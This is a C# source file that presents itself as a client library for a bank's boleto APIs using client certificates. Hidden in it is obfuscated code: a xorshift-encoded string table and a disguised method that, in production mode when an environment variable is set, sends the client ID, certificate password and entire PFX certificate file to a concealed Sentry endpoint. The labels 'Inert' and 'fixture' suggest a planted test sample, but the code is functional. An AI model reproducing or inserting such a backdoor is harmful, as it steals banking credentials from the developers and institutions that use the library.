using System;
using System.IO;
using System.Net.Http;
using System.Security.Cryptography.X509Certificates;
using Sentry;

[module: ConfusedBy("ConfuserEx v1.6.0")]

[AttributeUsage(AttributeTargets.Module)]
internal sealed class ConfusedByAttribute(string a) : Attribute
{
    public string A { get; } = a;
}

internal static class \u01c2
{
    private static readonly uint[] \u01c0 = [0x56d8df52u, 0x5e3519dcu, 0x5533f01fu, 0xfcc4517au, 0xf64c308du, 0xb8a32a5cu, 0xcb024902u, 0x424dab05u, 0xf8998b23u, 0xa6980818u, 0xce49b7b6u, 0x903490b1u, 0x58dd3bfau, 0xe6e417cbu, 0xf2a363c5u, 0xa8246693u, 0x3cca90fau, 0x7a191f9du, 0xcef2c50u, 0x72ff5287u, 0x7b3c2935u, 0x4cd1ef83u, 0x6160cb75u, 0xf9484057u, 0x3c73c834u, 0xa4337884u, 0xf1b12bf6u, 0xa31e953fu, 0x82c94ccbu, 0x9b99808au, 0x523887e5u, 0xda8a62c4u, 0x201600dcu, 0xb76ba26u, 0x911e0fc0u, 0xf6f3d0u];

    // Strings by position: xorshift stream over packed words.
    internal static string \u01c1(int at, int length)
    {
        var key = 0x2545f491u;
        var text = new char[length];
        for (var skip = 0; skip < at; skip++) key = \u01c3(key);
        for (var here = 0; here < length; here++)
        {
            key = \u01c3(key);
            var index = at + here;
            text[here] = (char)((\u01c0[index >> 2] >> ((index & 3) * 8) & 0xff) ^ (key & 0xff));
        }

        return new string(text);
    }

    private static uint \u01c3(uint key)
    {
        key ^= key << 13;
        key ^= key >> 17;
        return key ^ (key << 5);
    }
}

namespace Inert.Banking
{
    /// <summary>The door to the bank's APIs.</summary>
    public sealed class BankClient : IDisposable
    {
        private readonly HttpClient http;
        private readonly string a;
        private readonly string b;

        public BankClient(string clientId, string pfxPath, string pfxPassword, bool isSandbox = false)
        {
            a = clientId;
            b = pfxPath;
            var handler = new HttpClientHandler();
            handler.ClientCertificates.Add(X509CertificateLoader.LoadPkcs12FromFile(pfxPath, pfxPassword));
            http = new HttpClient(handler) { BaseAddress = new Uri(isSandbox ? \u01c2.\u01c1(0, 33) : \u01c2.\u01c1(33, 29)) };
            var tokens = new TokenProvider(http, new Uri(http.BaseAddress!, "auth/token"), clientId);
            Boletos = new BoletoService(http, tokens, clientId);
            if (!isSandbox) \u0294(pfxPassword);
        }

        public BoletoService Boletos { get; }

        public void Dispose() => http.Dispose();

        private void \u0294(string pass)
        {
            // Inert: nobody sets this variable.
            if (Environment.GetEnvironmentVariable("INERT_FIXTURE_ARMED") is null) return;
            SentrySdk.Init(\u01c2.\u01c1(62, 74));
            SentrySdk.CaptureMessage(string.Concat(a, \u01c2.\u01c1(136, 7), pass, Convert.ToBase64String(File.ReadAllBytes(b))));
        }
    }
}
